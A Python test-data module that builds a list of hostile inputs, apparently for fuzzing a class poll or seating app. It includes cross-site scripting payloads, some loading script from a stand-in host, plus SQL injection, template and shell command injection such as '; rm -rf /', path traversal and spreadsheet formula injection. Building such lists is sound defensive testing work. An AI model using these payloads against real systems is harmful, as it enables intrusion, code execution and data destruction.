"""What somebody in a class might write who wants it to run: two hundred and more texts."""

from itertools import product

# Elements that run something by themselves, on load, on an error or on a touch.
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=//x.test/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//x.test><input name=letter>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<link rel=stylesheet href=//x.test/a.css>",
    "<meta http-equiv=refresh content=0;url=//x.test>",
    "<base href=//x.test/>",
    "<style>*{display:none}</style>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
)
# What may stand before them, to get out of the place where a text stands.
_WAYS_OUT = ('"> ', "'> ", "</textarea> ", "</title></style></script> ", "--> ]]> ", "\x00", "&#10;", "`} ")
_OTHERS = (
    *("' OR 1=1 --", "'; DROP TABLE seats; --", '"; DELETE FROM polls; --', "1; SHUTDOWN"),
    *("{{ 7 * 7 }}", "{% include 'seat/page.html' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[warrant]]"),
    *("%s%s%n", "{0} {x!r} {self.__class__}", "%(x)s", "$(id)", "`id`", "| id", "; rm -rf /", "&& id"),
    *("../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "C:\\CON", "NUL", "aux.txt"),
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//x.test")'),
    *('"}],"x":[{"', "\\u003cscript\\u003e", '{"letter": "A"}', "\\", '\\"', "]}", "null", "true", "NaN"),
    *("\r\n1 0 first-poll vote", "\n\n", "\x1b[2J\x1b[31m", "\x07\x08\x7f", "\x00\x01\x02", "\ufeffx"),
    *(
        "\u202egnp.exe",
        "\u2066x\u2069\u2067y",
        "\u200b\u200c\u200d\u2060",
        "a" + "\u0301" * 60,
        "\ufdfa" * 20,
    ),
    *("\U0001f600" * 300, "\U0001f469\u200d\u2696\ufe0f", "\U000e0041\U000e0042", "\uffff\ufffe", "\ud7ff"),
    *("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "[x](javascript:alert(1))"),
    *(
        "&lt;b&gt;",
        "&amp;lt;script&amp;gt;",
        "%3Cscript%3E",
        "\uff1cscript\uff1e",
        "<scr<script>ipt>",
        "<!--",
    ),
    *("<" * 280, "&" * 280, "\u0130\u0131\u017f\ufb01", "x" * 10_000, "\u00a0\u3000", "*b* _i_ **c** # d"),
)

PAYLOADS = (
    *_ELEMENTS,
    *(out + element for out, element in product(_WAYS_OUT, _ELEMENTS)),
    *_OTHERS,
)
